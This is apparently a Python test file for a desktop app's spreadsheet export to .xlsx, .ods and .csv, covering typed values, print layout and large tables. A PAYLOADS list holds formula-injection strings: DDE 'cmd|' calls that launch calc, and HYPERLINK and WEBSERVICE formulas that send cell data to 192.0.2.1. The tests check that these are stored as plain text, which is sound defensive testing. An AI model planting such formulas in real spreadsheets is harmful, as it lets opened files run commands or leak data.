"""Tables written to .xlsx, .ods and .csv: typed values, nothing that computes, set up to read and print."""

import csv
import datetime as dt
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook as open_workbook

from desktop.errors import Refused
from desktop.exchange.sheets.table_file import CellKind, TableColumn, TableFile, plain
from desktop.exchange.sheets.table_formats import KINDS, kind_of, table_steps
from tests.exchange.table_files import cells, saved_again, table_of, written
from tests.libreoffice import needs_libreoffice

COLUMNS = [
    TableColumn("編號"),
    TableColumn("日期", CellKind.DATE, 5),
    TableColumn("時間", CellKind.TIME, 4),
    TableColumn("分數", CellKind.NUMBER, 4),
    TableColumn("發現事項", CellKind.TEXT, 16),
]
ROW = ["115-行政-001", dt.date(2026, 3, 5), dt.time(9, 30), Decimal("91.5"), "飲水機沒有水\n已通知廠商"]
PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"看\")",
    "=cmd|'/C calc'!A0",
    "+886-8-7700001",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "==1",
    "=WEBSERVICE(\"http://192.0.2.1\")",
    "http://192.0.2.1/=1",
]  # fmt: skip
every_kind = pytest.mark.parametrize("kind", KINDS)


def kept(text: str, kind: str) -> str:
    """What of a text a kind of file keeps."""
    return plain(text).replace("\t", " ") if kind == ".ods" else plain(text)


@pytest.mark.parametrize("kind", [".xlsx", ".ods"])
def test_dates_times_and_numbers_are_what_they_are_below_title_and_headings(tmp_path, kind):
    table = table_of(COLUMNS, ROW, ["", None, None, None, ""], lines=("松溪鄉公所",))

    title, line, headings, row, *_rest = cells(written(table, tmp_path, kind))

    assert (title[0], line[0]) == ("走動式管理登記簿", "松溪鄉公所")
    assert headings == [column.heading for column in COLUMNS]
    assert row == ["115-行政-001", dt.date(2026, 3, 5), dt.time(9, 30), 91.5, "飲水機沒有水\n已通知廠商"]


def test_csv_has_one_line_of_headings_and_the_mark_excel_needs(tmp_path):
    path = written(table_of(COLUMNS, ROW, lines=("松溪鄉公所",)), tmp_path, ".csv")

    assert path.read_bytes().startswith("\ufeff編號,日期,".encode())
    assert cells(path)[1] == ["115-行政-001", "2026-03-05", "09:30", "91.5", "飲水機沒有水\n已通知廠商"]


@every_kind
def test_a_value_of_another_kind_than_its_column_is_written_as_what_it_is(tmp_path, kind):
    table = table_of(COLUMNS, [12, "年底前", "上午", "優", dt.date(2026, 3, 5)])

    row = cells(written(table, tmp_path, kind))[-1]

    assert [str(cell) for cell in row] == [row[0] and str(row[0]), "年底前", "上午", "優", "2026-03-05"]
    assert float(row[0]) == 12


@every_kind
@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_looks_like_a_formula_stays_text(tmp_path, kind, payload):
    path = written(table_of([TableColumn("事項")], [payload]), tmp_path, kind)

    assert cells(path)[-1] == [kept(payload, kind)]
    if kind == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            assert list(csv.reader(file))[1][0][0] not in "=+-@\t\r"
    else:
        with zipfile.ZipFile(path) as archive:
            content = b"".join(archive.read(name) for name in archive.namelist())
        assert not any(mark in content for mark in (b"<f>", b"<hyperlink ", b"table:formula", b"text:a "))


@given(text=st.text(max_size=40))
@every_kind
def test_every_text_comes_back_but_for_what_no_file_holds(tmp_path_factory, kind, text):
    path = written(
        table_of([TableColumn("甲"), TableColumn("乙")], [text, "末"]), tmp_path_factory.mktemp("t"), kind
    )

    assert cells(path)[-1] == [kept(text, kind), "末"]


@every_kind
def test_control_characters_are_dropped(tmp_path, kind):
    table = table_of([TableColumn("事項")], ["甲\x00乙\x0b\x1f丙\ufffe\ud800丁"])

    assert cells(written(table, tmp_path, kind))[-1] == ["甲乙丙丁"]


def test_a_workbook_is_set_up_for_reading_and_for_paper(tmp_path):
    sheet = open_workbook(written(table_of(COLUMNS, ROW, lines=("甲", "乙")), tmp_path, ".xlsx")).active

    assert sheet.title == "走動式管理登記簿"
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:E5"
    assert sheet.print_title_rows == "$4:$4"
    assert sheet.print_area == "'走動式管理登記簿'!$A$1:$E$5"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.page_setup.fitToHeight, sheet.sheet_properties.pageSetUpPr.fitToPage) == (0, True)
    assert sheet.oddFooter.right.text == "第 &P 頁，共 &N 頁"
    assert sheet["B5"].number_format == "[$-404]e.mm.dd"
    assert sheet["E5"].alignment.wrap_text
    assert sheet.row_dimensions[5].height > 30


def test_a_wide_table_is_printed_on_pages_beside_each_other_under_headings_that_can_be_read(tmp_path):
    columns = [TableColumn(f"第{number}項：先報機關名稱並問好", width=6) for number in range(40)]

    sheet = open_workbook(written(table_of(columns, list(range(40))), tmp_path, ".xlsx")).active

    assert sheet.page_setup.fitToWidth == 2
    assert sheet.print_title_cols == "$A:$B"
    assert sheet.row_dimensions[2].height > 45


@pytest.mark.parametrize("kind", [".xlsx", ".ods"])
def test_a_large_table_is_written_as_it_comes(tmp_path, kind, monkeypatch):
    monkeypatch.setattr("desktop.exchange.sheets.table_file.LARGE", 1000)
    table = TableFile("大表", tuple(COLUMNS), (ROW for _row in range(1200)), count=1200)
    target = tmp_path / f"大表{kind}"

    told = list(table_steps(table, target, kind))

    assert [(done, total) for done, total, _said in told] == [(500, 1200), (1000, 1200)]
    assert len(cells(target)) == 1202
    assert cells(target)[-1][1] == dt.date(2026, 3, 5)


def test_what_excel_cannot_hold_is_refused_by_place(tmp_path):
    table = table_of([TableColumn("事項")], ["甲"], ["長" * 32_768])

    with pytest.raises(Refused, match="第 4 列「事項」"):
        written(table, tmp_path, ".xlsx")


def test_a_name_of_no_kind_is_refused(tmp_path):
    with pytest.raises(Refused, match=r"\.xlsx"):
        kind_of(tmp_path / "表格.txt")


@needs_libreoffice
@pytest.mark.slow
@every_kind
def test_libreoffice_saves_it_again_with_the_same_values(tmp_path, kind):
    table = table_of(COLUMNS, ROW, *[[payload, None, None, 1, "末"] for payload in PAYLOADS])
    path = written(table, tmp_path, kind)

    again = cells(saved_again(path, tmp_path))

    # In a file without types it writes a time of day as its own language does.
    assert [["09:30" if cell == "09:30:00 AM" else cell for cell in row] for row in again] == cells(path)
